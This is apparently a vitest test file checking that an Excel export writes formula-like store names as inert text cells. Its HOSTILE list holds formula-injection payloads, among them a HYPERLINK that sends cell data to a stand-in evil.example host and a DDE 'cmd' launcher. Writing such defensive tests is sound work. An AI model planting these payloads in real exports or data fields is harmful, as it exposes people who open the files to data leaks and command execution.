// Insider suite, exports: a name written like a formula (a store named `=HYPERLINK(...)`) reaches the
// Excel export as text, never as a formula the spreadsheet would evaluate on opening.
import { describe, expect, it } from 'vitest';
import { readWorkbook } from '../../../tests/support/xlsx.js';
import type { Json } from '../../src/platform/exports/csv-rows.js';
import { xlsxStream } from '../../src/platform/exports/xlsx-rows.js';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(1)', '=1+1'];

async function* pagesOf(rows: Json[]): AsyncGenerator<Json[]> {
  yield rows;
}

async function bytesOf(stream: NodeJS.ReadableStream): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.from(chunk as Buffer));
  return Buffer.concat(chunks);
}

describe('insider: formula-like text in the Excel export', () => {
  it('writes every formula-like name as a text cell holding exactly that text', async () => {
    const rows = HOSTILE.map((name, index) => ({ id: index + 1, name, city: { name } }));
    const workbook = await readWorkbook(
      await bytesOf(xlsxStream('stores', ['id', 'name', 'city.name'], pagesOf(rows))),
    );
    expect(workbook.sheet).toBe('stores');
    expect(workbook.formulas).toBe(0);
    expect(workbook.rows.slice(1)).toEqual(HOSTILE.map((name, index) => [index + 1, name, name]));
  });
});
